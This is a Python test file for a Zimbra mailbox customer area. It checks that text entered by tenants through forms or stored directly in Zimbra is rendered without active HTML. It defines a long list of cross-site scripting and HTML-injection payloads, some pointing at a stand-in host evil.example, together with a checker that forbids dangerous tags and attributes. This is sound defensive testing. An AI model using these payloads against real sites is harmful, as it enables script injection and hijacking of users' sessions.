"""What a tenant writes into a mailbox stays text: out by the form, and back from Zimbra."""

from __future__ import annotations

import re
from typing import Any

from puq_zimbra.simulator import Simulator

from ..clientarea.test_hostile import HOSTILE
from ..skins.states import HOSTILE as OF_BROWSERS
from ..test_nasty_strings import NASTY
from .conftest import Customer, Page

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *HOSTILE,
            *OF_BROWSERS,
            *(one for one in NASTY if re.search(r"[<>&\"'{}%]", one)),
            "<svg/onload=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><svg><script>alert(1)</script>",
            '"><iframe srcdoc="<script>alert(1)</script>">',
            "<a href=javascript:alert(1)>x</a>",
            "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<style>@import'//evil.example'</style>",
            "<form action=//evil.example><button>x",
            "--><script>alert(1)</script><!--",
            "`${alert(1)}`",
            "\\u003cscript\\u003ealert(1)",
            "<img src=x onerror=alert(1)//",
            "<img src=`x`onerror=alert(1)>",
            "<script src=//evil.example></script>",
            "<sCrIpT>alert(1)</ScRiPt>",
            "<scr<script>ipt>alert(1)</script>",
            "<body onload=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<object data=data:text/html,<script>alert(1)</script>>",
            "<embed src=javascript:alert(1)>",
            "<link rel=stylesheet href=//evil.example>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
            "<template><script>alert(1)</script></template>",
            "<select><option></select><img src=x onerror=alert(1)>",
            "' style='position:fixed;inset:0' x='",
            '" style="background:url(//evil.example)"',
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&lt;img src=x onerror=alert(1)&gt;",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "//evil.example/%2e%2e",
            "<bdo dir=rtl>x",
            "<p id=puqz-42>",
        )
    )
)
#: elements that may do something, or lead elsewhere
FORBIDDEN = {
    "base", "embed", "iframe", "img", "link", "math", "meta", "object", "script", "style", "video",
}  # fmt: skip


def assert_harmless(page: Page) -> None:
    """No element, attribute or address that could do anything; no brace for a template engine."""
    assert not set("{}") & set(page.answer["html"])
    for element in page.tree.iter():
        assert element.tag not in FORBIDDEN, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "formaction", "autofocus"), name
            if name in ("href", "action", "src"):
                assert re.match(r"https://|[\w./?=&;#%+~-]+$", value), value


def storable(text: str) -> str:
    """A payload as Zimbra can hold it."""
    return "".join(one for one in text if one.isprintable())


def test_there_are_sixty() -> None:
    """The list is the promise: each is tried in some fifteen places."""
    assert len(PAYLOADS) >= 60


def test_back_from_zimbra(customer: Customer, simulator: Simulator) -> None:
    """A tenant's administrator writes what he likes, past our forms."""
    simulator.domain("firma.example").attrs.pop("zimbraDomainMaxAccounts")
    boxes = []
    for number, payload in enumerate(PAYLOADS):
        box = simulator.create_account(f"box{number}@firma.example")
        text = storable(payload)
        box.attrs |= {
            "displayName": [text],
            "zimbraPrefMailForwardingAddress": [f"{text}@x.example"],
            "zimbraPrefOutOfOfficeReplyEnabled": ["TRUE"],
            "zimbraPrefOutOfOfficeReply": [text],
            "zimbraPrefOutOfOfficeExternalReplyEnabled": ["TRUE"],
            "zimbraPrefOutOfOfficeExternalReply": [text],
            "zimbraPrefOutOfOfficeFromDate": [text],
            "zimbraLastLogonTimestamp": [text],
            "zimbraMailQuota": [text],
            "zimbraPasswordModifiedTime": [text],
            "zimbraAccountStatus": ["active"],
        }
        boxes.append(box)
    for place in ("1", "2"):
        assert_harmless(customer.open("mailboxes", p=place, sort="name"))
    for box in boxes:
        for name in ("mailbox", "mailbox_delete"):
            page = customer.open(name, id=box.id)
            assert box.name in page.text
            assert_harmless(page)


def test_out_by_the_form(customer: Customer, simulator: Simulator) -> None:
    """What is kept is kept as it was typed; what is refused is shown as it was typed."""
    box = simulator.create_account("anna@firma.example")
    for payload in PAYLOADS:
        page = customer.open("mailbox", id=box.id)
        for action, typed in _forms(payload):
            if action == "edit_mailbox":  # a form acts once
                page = customer.open("mailbox", id=box.id)
            answer = customer.send(page.form(action, box.id), **typed)
            assert answer.code in ("updated", "unchanged", "invalid"), (action, answer)
            if answer.value.get("html"):
                assert_harmless(customer.page_of(answer))
        assert_harmless(customer.open("mailbox", id=box.id))
        assert_harmless(customer.open("mailboxes", q=payload, sort=payload, p=payload))
        assert_harmless(customer.open("mailbox", id=payload, notice=payload))


def _forms(payload: str) -> list[tuple[str, dict[str, Any]]]:
    return [
        ("edit_mailbox", {"name": "anna", "display_name": payload, "limit": "1"}),
        ("edit_mailbox", {"name": payload, "display_name": "Anna", "limit": payload}),
        ("set_out_of_office", {"on": "on", "text": "x", "first_day": payload}),
        ("edit_mailbox", {"name": "anna", "display_name": "Anna", "limit": payload}),
        ("add_alias", {"name": payload}),
        ("set_forwarding", {"to": payload}),
        ("set_out_of_office", {"on": "on", "text": payload, "outside_text": payload}),
    ]
